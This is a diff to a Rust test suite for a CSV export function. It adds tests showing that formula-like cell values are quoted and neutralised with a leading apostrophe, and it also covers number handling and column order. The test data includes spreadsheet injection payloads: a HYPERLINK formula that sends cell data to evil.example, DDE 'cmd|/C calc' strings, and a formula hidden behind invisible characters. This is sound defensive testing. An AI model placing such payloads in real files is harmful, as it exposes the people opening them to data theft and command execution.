@@ -3,6 +3,7 @@
 use crate::support::database;
 use crate::support::log;
 use crate::support::server;
+use std::collections::HashMap;
 use std::sync::Arc;
 use std::sync::atomic::{AtomicU64, Ordering};
 
@@ -203,10 +204,10 @@ async fn a_grid_gives_its_titles_and_the_values_without_their_formats() {
     let grid = grid.unwrap();
     let sorted = file(CONFIG, "persons_tgp_ordering=-age", grid.rows(people())).await.unwrap();
     let (first, rest) = sorted.split_once("\r\n").unwrap();
-    assert_eq!(first, "\"Full, name\",Born,'=1,Missing");
+    assert_eq!(first, "\"Full, name\",Born,\"'=1\",Missing");
     assert!(rest.starts_with("Donald,1912,88,\r\nGrace,1915,85,\r\n"), "{rest}");
     let empty = file(CONFIG, "", grid.rows(Vec::<Person>::new())).await.unwrap();
-    assert_eq!(empty, "\"Full, name\",Born,'=1,Missing\r\n");
+    assert_eq!(empty, "\"Full, name\",Born,\"'=1\",Missing\r\n");
 }
 
 #[tokio::test]
@@ -241,14 +242,65 @@ async fn hostile_values_come_to_nothing() {
         "x\t-2+3",
         "x; \"＝1",
         "x;-5",
+        "\u{a0}\u{feff} =1+1",
     ];
     let text = file(CONFIG, "", evil.map(|text| json!({ "=a": text })).to_vec()).await.unwrap();
-    let expected = "'=a\r\n\
+    let expected = "\"'=a\"\r\n\
                     \"'=HYPERLINK(\"\"http://evil.example?\"\"&A1,\"\"ok\"\")\"\r\n\
-                    '+1+cmd|' /C calc'!A0\r\n'-2+3\r\n'@SUM(A1)\r\n'\t'=1\r\n\"'\r\n'=1\"\r\n\
-                    \"a\"\",\"\"=1\"\r\n-5\r\n'=\0\r\n\
-                    x;'=1+cmd|'/C calc'!A0\r\nx\t'-2+3\r\n\"x;' \"\"＝1\"\r\nx;-5\r\n";
+                    \"'+1+cmd|' /C calc'!A0\"\r\n\"'-2+3\"\r\n\"'@SUM(A1)\"\r\n\
+                    \"'\t'=1\"\r\n\"'\r\n'=1\"\r\n\"a\"\",\"\"=1\"\r\n-5\r\n\"'=\0\"\r\n\
+                    \"x;'=1+cmd|'/C calc'!A0\"\r\n\"x\t'-2+3\"\r\n\"x;' \"\"＝1\"\r\n\"x;'-5\"\r\n\
+                    \"'\u{a0}\u{feff} =1+1\"\r\n";
     assert_eq!(text, expected);
+}
+
+#[tokio::test]
+async fn a_number_before_a_text_is_no_formula_where_semicolons_part_cells() {
+    let row = json!({ "a": -5, "b": "2+cmd|'/C calc'!A0" });
+    assert_eq!(file(CONFIG, "", vec![row]).await.unwrap(), "a,b\r\n-5,\"2+cmd|'/C calc'!A0\"\r\n");
+}
+
+#[tokio::test]
+async fn phone_numbers_keep_their_plus_and_numbers_stay_numbers() {
+    let texts = ["+4930123456", "+49 30 123456", "-5", "-0.02", "+1-1", "'+1", "-1234567890123456"];
+    let rows = texts.map(|text| json!({ "a": text })).into_iter();
+    let rows = rows.chain([json!({ "a": -70 }), json!({ "a": -1_234_567_890_123_456_i64 })]);
+    let expected = "a\r\n\"'+4930123456\"\r\n\"'+49 30 123456\"\r\n-5\r\n-0.02\r\n\"'+1-1\"\r\n\
+                    '+1\r\n\"'-1234567890123456\"\r\n-70\r\n-1234567890123456\r\n";
+    assert_eq!(file(CONFIG, "", rows.collect::<Vec<_>>()).await.unwrap(), expected);
+}
+
+#[tokio::test]
+async fn columns_of_hash_maps_come_in_one_order() {
+    let names = ["id", "age", "size", "rank", "year"];
+    for _ in 0..10 {
+        let row = |n: i32| HashMap::from(names.map(|name| (name, n)));
+        let text = file(CONFIG, "", (1..=9).map(row).collect::<Vec<_>>()).await.unwrap();
+        assert_eq!(
+            text.lines().take(2).collect::<Vec<_>>(),
+            ["age,id,rank,size,year", "1,1,1,1,1"]
+        );
+    }
+}
+
+#[tokio::test]
+async fn columns_of_structs_keep_their_order() {
+    #[derive(Clone, serde::Serialize)]
+    struct Sparse {
+        z: u8,
+        #[serde(skip_serializing_if = "Option::is_none")]
+        y: Option<u8>,
+        #[serde(skip_serializing_if = "Option::is_none")]
+        x: Option<u8>,
+    }
+
+    let rows = vec![
+        Sparse { z: 1, y: None, x: Some(2) },
+        Sparse { z: 1, y: Some(3), x: None },
+        Sparse { z: 1, y: Some(3), x: Some(2) },
+    ];
+    let text = file(CONFIG, "", rows).await.unwrap();
+    assert_eq!(text, "z,x,y\r\n1,2,\r\n1,,3\r\n1,2,3\r\n");
 }
 
 fn table() -> Vec<Row> {
